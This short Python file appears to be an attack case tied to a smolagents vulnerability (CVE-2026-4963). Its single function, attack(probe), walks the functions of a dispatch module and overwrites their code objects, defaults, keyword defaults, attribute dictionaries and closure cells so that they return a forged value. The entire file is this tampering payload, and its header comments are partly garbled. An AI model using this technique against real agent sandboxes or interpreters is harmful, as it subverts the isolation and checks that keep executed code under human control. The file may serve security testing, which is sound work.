# From: smolagents CVE-2026-4963: attributes that nobody checks when they are written: a function's code, defaults and cells.
# Ends: any value or error exception or error crash or error result
# Ruins: overwrites the functions that carry its calls
import types


def attack(probe):
    import _aardvark_dispatch

    def planted(*values, **named):
        return b'"forged"'

    for name, function in list(vars(_aardvark_dispatch).items()):
        if not isinstance(function, types.FunctionType):
            continue
        for attribute, value in (("__defaults__", (1,) * 20), ("__kwdefaults__", {"a": 1}), ("__code__", planted.__code__), ("__dict__", {"__wrapped__": planted})):
            try:
                setattr(function, attribute, value)
            except (TypeError, ValueError):
                pass
        for cell in function.__closure__ or ():
            cell.cell_contents = planted
    return 1
